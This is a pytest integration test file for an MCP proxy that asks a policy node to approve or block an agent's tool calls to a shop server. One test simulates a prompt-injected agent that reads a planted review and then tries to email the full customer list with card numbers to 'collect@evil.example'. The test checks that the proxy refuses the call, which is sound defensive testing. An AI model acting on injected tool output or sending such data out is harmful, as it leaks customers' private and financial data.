"""The official MCP client, a server made with the official SDK, the proxy between them, and a real node."""

from __future__ import annotations

import subprocess
import sys
import time
from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import AbstractAsyncContextManager, AsyncExitStack, asynccontextmanager
from pathlib import Path
from typing import Any

import anyio
import httpx
import pytest
from anyio.streams.memory import MemoryObjectReceiveStream, MemoryObjectSendStream
from ioint_node.client import AsyncClient, ClientLimits
from ioint_node.proxy.judge import Judge, Terms
from ioint_node.proxy.limits import ProxyLimits
from ioint_node.proxy.relay import Relay, Side
from mcp import Client, MCPError, StdioServerParameters
from mcp_types import CallToolResult, ElicitResult, Implementation, ReadResourceResult, TextContent

from tests.clients import mcp_shop
from tests.node.client.conftest import PAUSE_S, READY_S, RealNode, free_port, ioint, make_home, make_tokens

pytestmark = pytest.mark.network
SHOP = Path(mcp_shop.__file__)
TASK = "answer support questions about orders of our customers"
DESK = Implementation(name="desk", version="1.0")
Connect = Callable[..., AbstractAsyncContextManager[Client]]
Ends = tuple[MemoryObjectReceiveStream[Any], MemoryObjectSendStream[Any]]


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RealNode]:
    node = make_home(tmp_path_factory.mktemp("node"))
    yield node
    node.kill()


@pytest.fixture
def node(home: RealNode) -> RealNode:
    if home.process is None:
        home.start()
    if not home.tokens:
        make_tokens(home)
    return home


@asynccontextmanager
async def between(judge: Judge, *, declare_tool: bool) -> AsyncIterator[Ends]:
    """The ends for a client of a proxy in this process, with a shop behind it."""
    up, down, asked, given = (anyio.create_memory_object_stream[Any](16) for _ in range(4))
    shop = mcp_shop.make_shop()._lowlevel_server
    relay = Relay(
        Side(read=up[1], write=down[0]),
        Side(read=given[1], write=asked[0]),
        judge,
        declare_tool=declare_tool,
    )
    async with anyio.create_task_group() as group, AsyncExitStack() as stack:
        for stream in (*up, *down, *asked, *given):
            stack.push_async_callback(stream.aclose)
        group.start_soon(shop.run, asked[1], given[0], shop.create_initialization_options())
        group.start_soon(relay.run)
        yield down[1], up[0]
        group.cancel_scope.cancel()


@pytest.fixture
def connect(node: RealNode) -> Connect:
    """A client whose server is a proxy in front of a shop, all but the node in this process."""

    @asynccontextmanager
    async def open_(
        actor: str, declared: str = TASK, *, role: str = "engine", declare_tool: bool = False, **options: Any
    ) -> AsyncIterator[Client]:
        limits = ClientLimits(probe_s=0.05, probe_most_s=0.1)
        terms = Terms(actor=actor, declared=declared, limits=ProxyLimits(wait_s=0.0))
        async with AsyncClient(node.url, node.tokens[role], limits=limits) as asking:
            judge = Judge(asking, terms)
            ends: Any = between(judge, declare_tool=declare_tool)
            async with Client(ends, client_info=DESK, **options) as client:
                yield client
            await judge.close("done")

    return open_


def command(node: RealNode, tmp_path: Path, *words: object) -> StdioServerParameters:
    """The proxy as a client starts it."""
    token = tmp_path / "engine.token"
    token.touch(mode=0o600)
    token.write_text(node.tokens["engine"])
    line = ioint(
        "mcp-proxy", "--node", node.url, "--token-file", token, "--declare", TASK, "--wait", 0, *words
    )
    return StdioServerParameters(command=line[0], args=line[1:])


def said(result: object) -> str:
    assert isinstance(result, CallToolResult)
    first = result.content[0]
    assert isinstance(first, TextContent)
    return first.text


def session_of(node: RealNode, actor: str) -> dict[str, Any]:
    """The newest session of an actor, with its decisions."""
    found = node.get(f"/api/v1/sessions?actor={actor}")["items"]
    assert isinstance(found, list)
    name = found[0].get("session_id") or found[0]["id"]
    return dict(node.get(f"/api/v1/sessions/{name}"))


@pytest.mark.parametrize("mode", ["legacy", "auto"])
async def test_a_client_sees_its_server_as_it_is(node: RealNode, connect: Connect, mode: str) -> None:
    """Tools, resources, prompts, progress and questions of the server pass; the node is asked and told."""
    so_far: list[float] = []

    async def note(progress: float, total: float | None, message: str | None) -> None:
        so_far.append(progress)

    async def answer(_context: object, _params: object) -> ElicitResult:
        return ElicitResult(action="accept", content={"size": 43})

    async with connect(f"see-{mode}", mode=mode, elicitation_callback=answer) as client:
        assert client.server_info is not None
        assert client.server_info.name == "shop"
        names = {tool.name for tool in (await client.list_tools()).tools}
        assert names >= {"get_order", "send_email"}
        assert said(await client.call_tool("get_order", {"order_id": "1177"})) == "order 1177 was sent"
        resource = await client.read_resource("shop://terms")
        assert isinstance(resource, ReadResourceResult)
        assert resource.contents[0].model_dump()["text"] == "no returns"
        assert (await client.list_prompts()).prompts[0].name == "greet"
        assert said(await client.call_tool("count", {"to": 3}, progress_callback=note)) == "counted"
        if mode == "legacy":
            assert said(await client.call_tool("search_size", {})) == "accept: 43"
        with pytest.raises(MCPError):
            await client.read_resource("shop://nothing")
    assert so_far == [0, 1, 2]
    session = session_of(node, f"see-{mode}")
    assert {"get_order", "read_resource", "count"} <= {one["tool"] for one in session["decisions"]}
    assert session["family"] == "support_customer"


async def test_what_a_hijacked_agent_would_send_is_not_sent_and_a_server_does_not_end_in_silence(
    node: RealNode, tmp_path: Path
) -> None:
    """The command as a desktop client starts it, in front of a server that it starts itself."""
    line = command(node, tmp_path, "--actor", "hijacked", "--", sys.executable, SHOP, "stdio")
    async with Client(line, client_info=DESK, mode="legacy") as client:
        assert "IMPORTANT" in said(await client.call_tool("read_reviews", {"product": "shoes"}))
        body = "the full customer list with all card numbers"
        result = await client.call_tool("send_email", {"to": "collect@evil.example", "body": body})
        with anyio.fail_after(READY_S), pytest.raises(MCPError, match="ended"):
            await client.call_tool("read_and_die", {})
    assert isinstance(result, CallToolResult)
    assert result.is_error
    assert said(result).startswith("Not run: send_email.")
    assert result.meta is not None
    assert result.meta["ioint/decision"]["source"] == "node"
    session = session_of(node, "hijacked")
    assert not next(one for one in session["decisions"] if one["tool"] == "send_email")["allowed"]
    assert session["outcome"] == "failed"


@pytest.mark.parametrize("mode", ["legacy", "auto"])
@pytest.mark.parametrize("yes", [True, False])
async def test_a_person_at_the_client_is_asked_where_its_token_may_decide(
    connect: Connect, mode: str, yes: bool
) -> None:
    questions: list[str] = []

    async def answer(_context: object, params: Any) -> ElicitResult:
        questions.append(params.message)
        return ElicitResult(action="accept", content={"run": yes})

    async with connect(f"asked-{mode}-{yes}", role="admin", mode=mode, elicitation_callback=answer) as client:
        result = await client.call_tool("send_email", {"to": "ann@example.org", "body": "it was sent"})
    assert len(questions) == 1
    assert "send_email" in questions[0]
    assert isinstance(result, CallToolResult)
    assert bool(result.is_error) is not yes
    assert said(result).startswith(
        "sent to ann" if yes else "Not run: send_email. the person at the client said no"
    )


async def test_a_yes_at_the_client_approves_nothing_where_its_token_may_not(connect: Connect) -> None:
    async def answer(_context: object, _params: object) -> ElicitResult:
        return ElicitResult(action="accept", content={"run": True})

    async with connect("a-17", role="agent", mode="legacy", elicitation_callback=answer) as client:
        result = await client.call_tool("send_email", {"to": "ann@example.org", "body": "it was sent"})
    assert said(result).startswith("Not run: send_email.")
    assert "waits for a person's approval" in said(result)


async def test_a_call_is_cancelled_behind_the_proxy(connect: Connect) -> None:
    started = anyio.Event()

    async def note(progress: float, total: float | None, message: str | None) -> None:
        started.set()

    async with connect("cancels") as client:
        with anyio.fail_after(READY_S):
            async with anyio.create_task_group() as group:

                async def forever() -> None:
                    await client.call_tool("read_forever", {}, progress_callback=note)

                group.start_soon(forever)
                await started.wait()
                group.cancel_scope.cancel()
            assert said(await client.call_tool("get_order", {"order_id": "2"})) == "order 2 was sent"


async def test_an_agent_states_its_task_with_the_tool_for_it(node: RealNode, connect: Connect) -> None:
    async with connect("states", "", declare_tool=True, mode="legacy") as client:
        assert "declare_intent" in {tool.name for tool in (await client.list_tools()).tools}
        assert said(await client.call_tool("declare_intent", {"task": TASK})).startswith("Declared")
        await client.call_tool("get_order", {"order_id": "3"})
    assert session_of(node, "states")["family"] == "support_customer"


async def test_new_tools_of_a_server_are_seen(connect: Connect) -> None:
    changed = anyio.Event()

    async def hear(message: Any) -> None:
        if "list_changed" in str(message):
            changed.set()

    async with connect("grows", mode="legacy", message_handler=hear) as client:
        await client.list_tools()
        await client.call_tool("list_more", {})
        with anyio.fail_after(READY_S):
            await changed.wait()
        assert "get_stock" in {tool.name for tool in (await client.list_tools()).tools}
        assert said(await client.call_tool("get_stock", {"product": "shoes"})) == "shoes: 3"


async def test_a_token_that_opens_nothing_runs_nothing(connect: Connect) -> None:
    async with connect("somebody-else", role="agent") as client:
        result = await client.call_tool("get_order", {"order_id": "8"})
    assert "403 other_actor" in said(result)


@pytest.fixture
def served() -> Iterator[str]:
    """The address of a shop that is served over HTTP."""
    port = free_port()
    with subprocess.Popen([sys.executable, SHOP, "http", str(port)], stderr=subprocess.DEVNULL) as server:
        try:
            deadline = time.monotonic() + READY_S
            while True:
                try:
                    httpx.get(f"http://127.0.0.1:{port}/", trust_env=False)
                    break
                except httpx.TransportError:
                    assert time.monotonic() < deadline
                    time.sleep(PAUSE_S)
            yield f"http://127.0.0.1:{port}/mcp"
        finally:
            server.kill()


async def test_a_server_of_streamable_http_is_reached_in_both_ways_of_the_protocol(
    node: RealNode, served: str, tmp_path: Path
) -> None:
    for mode in ("legacy", "auto"):
        line = command(node, tmp_path, "--actor", "http", "--url", served)
        async with Client(line, client_info=DESK, mode=mode) as client:
            assert said(await client.call_tool("get_order", {"order_id": "4"})) == "order 4 was sent"
            result = await client.call_tool("send_email", {"to": "a@b.example", "body": "x"})
        assert isinstance(result, CallToolResult)
        assert result.is_error


def test_a_token_file_that_others_can_read_is_refused(tmp_path: Path) -> None:
    token = tmp_path / "token"
    token.write_text("x")
    token.chmod(0o644)
    done = subprocess.run(
        ioint("mcp-proxy", "--token-file", token, "--node", "http://127.0.0.1:1", "--", "true"),
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 1
    assert "chmod 600" in done.stderr
    assert done.stdout == ""


async def test_a_dead_node_stops_no_reading_and_lets_no_refused_call_go(
    node: RealNode, connect: Connect
) -> None:
    async with connect("alone") as client:
        assert said(await client.call_tool("get_order", {"order_id": "5"})) == "order 5 was sent"
        held = await client.call_tool("send_email", {"to": "ann@example.org", "body": "one"})
        node.kill()
        assert said(await client.call_tool("get_order", {"order_id": "6"})) == "order 6 was sent"
        again = await client.call_tool("send_email", {"to": "bob@example.org", "body": "two"})
        for result in (held, again):
            assert isinstance(result, CallToolResult)
            assert result.is_error
        assert "no node answers" in said(again)


def test_a_client_that_leaves_ends_the_proxy_also_while_no_node_is_there(tmp_path: Path) -> None:
    token = tmp_path / "token"
    token.write_text(f"ioint_{'A' * 43}\n")
    token.chmod(0o600)
    node = f"http://127.0.0.1:{free_port()}"
    command = [sys.executable, "-m", "ioint_node", "mcp-proxy", "--node", node, "--token-file", str(token)]
    command += ["--actor", "desk", "--", sys.executable, str(SHOP), "stdio"]
    ended = subprocess.run(command, input=b"", capture_output=True, timeout=30, check=False)
    assert ended.returncode == 0, ended.stderr
